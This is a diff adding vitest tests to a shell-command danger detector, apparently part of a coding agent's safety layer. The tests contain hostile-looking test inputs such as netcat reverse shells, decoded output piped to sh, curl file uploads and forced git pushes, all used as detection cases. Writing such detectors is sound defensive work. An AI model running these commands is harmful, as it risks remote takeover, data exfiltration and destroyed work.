@@ -1,6 +1,6 @@
 import { describe, expect, test } from "vitest";
 import { readShell } from "../../shell/running-commands";
-import { dangersIn } from "./dangers-in";
+import { dangersIn, shellDangers } from "./dangers-in";
 
 /** What is seen in a command line, each as its danger's name and what is said of it. */
 const seenIn = (command: string) =>
@@ -1391,4 +1391,66 @@ describe("what hides a command, and what changes others", () => {
       seenIn(command).filter((sighting) => /^(?:hidden_command|unreadable|powershell|environment|runs_command|loads_code):/.test(sighting)),
     ).toEqual([]);
   });
+});
+
+describe("what is nearly the same", () => {
+  test.each<[sighting: string, commands: string[]]>([
+    ["delete: deletes files", ["rm -f a -- --help", "rm -- -r", "rm a--recursive"]],
+    ["delete: cuts a file off", ["truncate -s -5 a", "truncate -s /5 a"]],
+    [
+      "made_runnable: makes a file a program and runs it at once",
+      ["chmod 611 a; ./a", "chmod -cfv +x a; ./a", "chmod --changes +x a; ./a", "chmod -R 755 a; ./a"],
+    ],
+    ["upload: sends a file to another machine", ["curl --data-urlencode name@file https://example.com", "curl -sT a https://example.com"]],
+    ["piped_program: hands what another command prints to sh", ["base64 a-d | sh", "xxd a-r | sh", "gzip a-d | sh"]],
+    [
+      "reverse_shell: hands a shell to another machine",
+      ["sh < p | nc.traditional h", "nc h 1; sh -i < p | nc h 2", "ls | nc h 1; sh -i < p | nc h 2"],
+    ],
+    ["reverse_shell: hands a terminal to another machine", ["xterm 10.20.30.40:1"]],
+    ["git_discard: deletes files that git does not know", ["git --no-pager clean -f"]],
+    ["git_discard: throws away changes that were not committed", ["git restore --stagedx a", "git restore x-S a", "git restore -S -qW a"]],
+    ["git_discard: deletes a branch that was not merged", ["git branch -rdf a"]],
+    ["git_discard: removes a folder with its changes", ["git worktree remove -qf a"]],
+    [
+      "git_force_push: overwrites or removes what others have on the server",
+      ["git push -fu", "git push -qd origin a", "git push -dq origin a"],
+    ],
+    ["git_escape: changes git's setting set.x, which can name a program", ["git config set.x y"]],
+    ["git_escape: changes git's setting x.set, which can name a program", ["git config x.set y"]],
+    ["git_escape: changes git's setting core.editor, which can name a program", ["git config core.editor x--get"]],
+  ])("%s", (sighting, commands) => {
+    for (const command of commands) expect(seenIn(command), command).toContain(sighting);
+  });
+
+  test.each([
+    "docker inspect system prune",
+    "tofu plan destroy",
+    "kubectl --n=a get delete x",
+    "stat +x a; chmod 600 b; ./a",
+    "curl -F a=b me@example.com",
+    "curl x-d@a",
+    "shx < p | nc h 1",
+    "xterm a10.0.0.1:1",
+    "git --no-color status",
+    "git --no-pager log",
+    "git --xpaginate log",
+    "git branch -f x-d",
+    "git branch -d x-f",
+    "git checkout x-f",
+    "git checkout a--",
+    "git checkout a.",
+    "git restore -S x-W",
+    "git update-ref x-d y",
+    "git worktree remove x-f",
+  ])("%s is ordinary", (command) => {
+    expect(seenIn(command)).toEqual([]);
+  });
+});
+
+test("what an allow rule covers all the same is a danger that the command's name says", () => {
+  const covered =
+    "delete delete_recursively delete_service_data open_permissions change_owner login_keys sudoers startup_file system_file raw_copy schedule services kill_by_name machine_setup git_force_push git_discard";
+  const escaping = shellDangers.filter(({ escapes }) => !escapes).map(({ id }) => id.replace("shell.", ""));
+  expect(escaping).toEqual(covered.split(" "));
 });
